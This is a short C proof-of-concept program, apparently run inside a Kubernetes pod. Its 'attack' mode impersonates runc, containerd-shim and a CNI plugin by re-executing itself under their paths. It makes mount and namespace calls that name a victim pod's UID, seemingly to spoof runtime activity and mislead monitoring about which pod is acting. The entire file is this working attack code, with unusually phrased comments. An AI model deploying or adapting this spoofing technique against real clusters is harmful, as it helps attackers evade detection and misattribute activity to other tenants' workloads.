/* A program inside a pod that behaves as a runtime would, and names another pod in all it does.
 *   runc attack UID ID    runs itself as every program a birth begins with, then sleeps
 * In each of these roles it makes the calls that a birth is told by. */
#define _GNU_SOURCE
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void make_calls(const char *uid) {
  char path[256];
  snprintf(path, sizeof path, "/var/lib/kubelet/pods/%s/volumes/x", uid);
  mount("none", path, "tmpfs", 0, NULL); /* fails: there is no such directory */
  snprintf(path, sizeof path, "/tmp/pod%s", uid);
  mkdir(path, 0700);
  mount("none", path, "tmpfs", 0, NULL);
  umount2(path, MNT_DETACH);
  unshare(CLONE_NEWNS);
}

static void run(char *const arguments[]) {
  pid_t child = fork();
  if (child == 0) {
    execv(arguments[0], arguments);
    _exit(127);
  }
  waitpid(child, NULL, 0);
}

int main(int count, char *arguments[]) {
  if (count != 4 || strcmp(arguments[1], "attack") != 0) {
    make_calls(getenv("VICTIM"));
    return 0;
  }
  char *id = arguments[3];
  setenv("VICTIM", arguments[2], 1);
  run((char *[]){"/bin/runc", "--root", "/run", "create", "--bundle", "/", id, NULL});
  run((char *[]){"/bin/runc", "--root", "/run", "start", id, NULL});
  run((char *[]){"/bin/containerd-shim-runc-v2", "-namespace", "k8s.io", "-id", id, "start", NULL});
  run((char *[]){"/proc/self/exe", "init", NULL});
  setenv("CNI_COMMAND", "ADD", 1);
  setenv("CNI_CONTAINERID", id, 1);
  setenv("CNI_NETNS", "/proc/self/ns/net", 1);
  run((char *[]){"/bin/ptp", NULL});
  sleep(3600);
  return 0;
}
